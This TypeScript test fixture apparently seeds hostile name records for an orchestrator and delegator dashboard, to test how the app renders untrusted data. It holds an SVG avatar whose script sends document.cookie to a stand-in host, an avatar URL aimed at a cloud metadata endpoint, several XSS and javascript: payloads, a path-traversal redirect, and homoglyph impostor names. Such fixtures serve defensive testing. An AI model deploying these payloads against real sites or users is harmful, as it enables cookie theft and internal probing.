/** What is odd about a name or its records. `plain`: nothing; `unnamed`: it has none. */
export type NameCase =
  | 'plain'
  | 'unnamed'
  | 'texts'
  | 'avatar-svg'
  | 'avatar-inside'
  | 'avatar-redirect'
  | 'avatar-endless'
  | 'avatar-page'
  | 'avatar-data'
  | 'impostor'
  | 'look-alike'
  | 'unnormalized'
  | 'offchain'
  | 'long'

/** Cases in the order of the orchestrators' addresses; further ones are plain, each fifth unnamed. */
const ORCHESTRATOR_CASES: readonly NameCase[] = [
  'plain',
  'texts',
  'unnamed',
  'plain',
  'impostor',
  'look-alike',
  'unnormalized',
  'offchain',
  'long',
]

export function orchestratorCase(place: number): NameCase {
  return ORCHESTRATOR_CASES[place] ?? (place % 5 === 0 ? 'unnamed' : 'plain')
}

/** Cases of the first delegators in the order of their addresses. */
export const DELEGATOR_CASES: readonly NameCase[] = [
  'avatar-svg',
  'avatar-inside',
  'avatar-redirect',
  'avatar-endless',
  'avatar-page',
  'avatar-data',
]

/** Labels that some claim as theirs: another account's name, one with a Cyrillic letter, one not in its normal form. */
export const OUTSIDERS: Partial<Record<NameCase, string>> = {
  impostor: 'demo-orchestrator',
  'look-alike': 'dem\u043e-orchestrator',
  unnormalized: 'Demo-Orchestrator',
}

const SCRIPT_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.local-network.example/"+document.cookie)</script></svg>'

/** The smallest PNG: one transparent point. */
const POINT_PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='

/** Records meant to do harm, or to be borderline. */
export function hostileRecords(kind: NameCase, base: string): { texts?: Record<string, string> } {
  const avatars: Partial<Record<NameCase, string>> = {
    'avatar-svg': `data:image/svg+xml;base64,${Buffer.from(SCRIPT_SVG).toString('base64')}`,
    'avatar-inside': 'https://127.0.0.1/latest/meta-data',
    'avatar-redirect': `${base}/names/pictures/redirect.png`,
    'avatar-endless': `${base}/names/pictures/endless.png`,
    'avatar-page': `${base}/names/pictures/page.png`,
    'avatar-data': `data:image/png;base64,${POINT_PNG}`,
  }
  if (kind === 'texts') {
    return {
      texts: {
        description:
          'Safe \u202eesrever\u202c hands\u200b. <img src=x onerror=alert(1)> [click](javascript:alert(1))\nSecond line '.repeat(
            40,
          ),
        url: 'javascript:alert(document.domain)',
        'com.twitter': '"><script>alert(1)</script>',
        'com.github': '../../login?return_to=evil',
        avatar: 'javascript:alert(1)',
      },
    }
  }
  if (kind === 'long') {
    return {
      texts: { description: 'x'.repeat(5_000), url: `https://${'long.'.repeat(40)}local-network.example` },
    }
  }
  const avatar = avatars[kind]
  return avatar
    ? { texts: { avatar, description: 'An account of the local network with an odd picture.' } }
    : {}
}
